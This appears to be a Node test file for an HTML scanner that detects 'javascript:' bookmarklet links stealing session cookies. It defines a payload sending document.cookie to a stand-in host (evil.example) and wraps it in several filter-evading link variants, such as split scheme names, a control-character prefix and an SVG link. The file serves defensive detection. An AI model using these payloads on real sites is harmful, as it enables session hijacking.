import assert from 'node:assert/strict'
import { test } from 'node:test'
import { scanHtml } from '../html/scanHtml.ts'
import { bookmarksOf } from './bookmarks.ts'
import { unfold } from './obfuscation.ts'

const SENDS = `location='https://evil.example/?c='+document.cookie`
const found = async (html: string, code = '') =>
  bookmarksOf(await scanHtml(html, AbortSignal.timeout(60_000)), [unfold('inline', code)]).map(({ kind }) => kind)

for (const html of [
  `<a href="javascript:${SENDS}">Drag me</a>`,
  `<a href="java\tscript:${SENDS}">Drag me</a>`,
  `<a href="java\nscript:${SENDS}">Drag me</a>`,
  `<a href="&#1;javascript:${SENDS}">Drag me</a>`,
  `<svg><a xlink:href="javascript:${SENDS}">Drag me</a></svg>`,
])
  test(`a bookmark that sends what sites keep: ${html.slice(0, 30)}`, async () =>
    assert.deepEqual(await found(html), ['bookmark-sends-session']))

test('one whose address code sets', async () => {
  assert.deepEqual(await found('<a id=b>Drag me</a>', `b.href = "javascript:${SENDS}"`), ['bookmark-sends-session'])
})

test('and none that only saves a page', async () => {
  const saves = `fetch('https://later.example/?u='+location.href,{headers:{key:localStorage.getItem('later')}})`
  assert.deepEqual(await found(`<a href="javascript:${saves}">Save</a>`, `b.href = "javascript:${saves}"`), [])
})
